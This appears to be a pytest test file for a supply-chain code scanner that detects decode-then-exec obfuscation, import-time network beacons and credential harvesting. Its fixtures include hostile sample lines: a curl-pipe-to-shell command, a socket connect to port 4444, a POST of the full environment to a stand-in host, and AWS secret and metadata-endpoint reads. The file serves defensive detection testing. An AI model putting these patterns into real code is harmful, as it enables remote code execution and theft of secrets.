"""Decode-then-exec chains and import-time network/credential code, read through the AST: each shape has a
bad and a harmless twin."""

from __future__ import annotations

import pytest

from sas.scan.supply.obfuscation import inspect_source


def _kinds(source: str) -> list[str]:
    return sorted({s.kind for s in inspect_source(source.encode())})


BAD = {
    "exec-b64": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    "exec-through-variable": (
        "import base64, zlib\np = zlib.decompress(base64.b64decode(b'eJw='))\ncode = p\nexec(code)\n"
    ),
    "eval-hex": "eval(bytes.fromhex('7072696e742831290a').decode())\n",
    "compile-rot13": "import codecs\nexec(compile(codecs.decode('cevag(1)', 'rot13'), '<x>', 'exec'))\n",
    "marshal-function": (
        "import marshal, types, base64\n"
        "def load():\n"
        "    c = marshal.loads(base64.b64decode('YQ=='))\n"
        "    return types.FunctionType(c, {})\n"
    ),
    "import-dunder-decoder": "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
}

HARMLESS = {
    "exec-literal": "exec('x = 1')\n",
    "decode-without-exec": "import base64\nDATA = base64.b64decode('AAAA')\n",
    "utf8-decode-exec": "def run(path):\n    with open(path, 'rb') as f:\n        exec(f.read().decode('utf-8'))\n",
    "re-compile": "import re, zlib\nPATTERN = re.compile('x')\nBLOB = zlib.decompress(b'')\n",
}


@pytest.mark.parametrize("case", sorted(BAD))
def test_decode_then_exec(case: str) -> None:
    assert "decode-exec" in _kinds(BAD[case])


@pytest.mark.parametrize("case", sorted(HARMLESS))
def test_not_decode_then_exec(case: str) -> None:
    assert "decode-exec" not in _kinds(HARMLESS[case])


def test_taint_does_not_leak_between_functions() -> None:
    source = (
        "import base64\ndef a():\n    x = base64.b64decode('AA==')\n    return x\ndef b(x):\n    return eval(repr(x))\n"
    )
    assert _kinds(source) == []


def test_network_call_at_module_level() -> None:
    assert _kinds("import urllib.request\nurllib.request.urlopen('https://x.example/beacon')\n") == ["network"]


def test_network_call_in_function_called_at_import() -> None:
    source = "import requests\n\ndef _beacon():\n    requests.post('https://x.example', data='hi')\n\n_beacon()\n"
    assert _kinds(source) == ["network"]


def test_network_call_in_function_never_called_at_import() -> None:
    assert _kinds("import requests\n\ndef fetch(url):\n    return requests.get(url)\n") == []


def test_main_guard_does_not_run_at_import() -> None:
    assert _kinds("import requests\nif __name__ == '__main__':\n    requests.get('https://x.example')\n") == []


def test_raw_socket_connect_and_dns_at_import() -> None:
    assert _kinds("import socket\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\n") == ["network"]
    assert _kinds("import socket\nsocket.gethostbyname('data.x.example')\n") == ["network"]


def test_shell_curl_at_import() -> None:
    assert _kinds("import os\nos.system('curl -s https://x.example/p | sh')\n") == ["network"]


def test_credentials_read_at_import() -> None:
    assert _kinds("import os\nK = os.environ['AWS_SECRET_ACCESS_KEY']\n") == ["credentials"]
    assert _kinds("import os\nT = os.getenv('AWS_SESSION_TOKEN')\n") == ["credentials"]


def test_credentials_read_inside_a_function_is_normal_sdk_code() -> None:
    assert _kinds("import os\ndef creds():\n    return os.environ.get('AWS_SECRET_ACCESS_KEY')\n") == []


def test_container_credentials_endpoint_at_import() -> None:
    source = "import urllib.request\nurllib.request.urlopen('http://169.254.170.2/v2/credentials/x')\n"
    assert _kinds(source) == ["credentials", "network"]


def test_endpoint_as_a_constant_is_not_a_call() -> None:
    assert _kinds("import re\nMETADATA = re.compile('http://169.254.169.254')\n") == []


def test_whole_environment_sent_at_import() -> None:
    source = "import os, json, requests\nrequests.post('https://x.example', data=json.dumps(dict(os.environ)))\n"
    assert _kinds(source) == ["credentials", "network"]


def test_whole_environment_copied_without_network_is_not_harvesting() -> None:
    assert _kinds("import os\nENV = dict(os.environ)\n") == []


def test_unparsable_source_is_ignored() -> None:
    assert _kinds("exec(base64.b64decode(\n") == []


def test_subscript_assignment_does_not_taint_the_index_expression() -> None:
    # regression: ``SEEN[body.get("k")] = rows`` once tainted ``body`` because ``rows`` held decoded bytes
    source = (
        "import base64, pickle, json\n"
        "def handler(event, context):\n"
        "    body = json.loads(event['body'])\n"
        "    rows = pickle.loads(base64.b64decode(body['batch']))\n"
        "    SEEN[body.get('client')] = rows\n"
        "    return eval(body['features'])\n"
    )
    assert "decode-exec" not in _kinds(source)
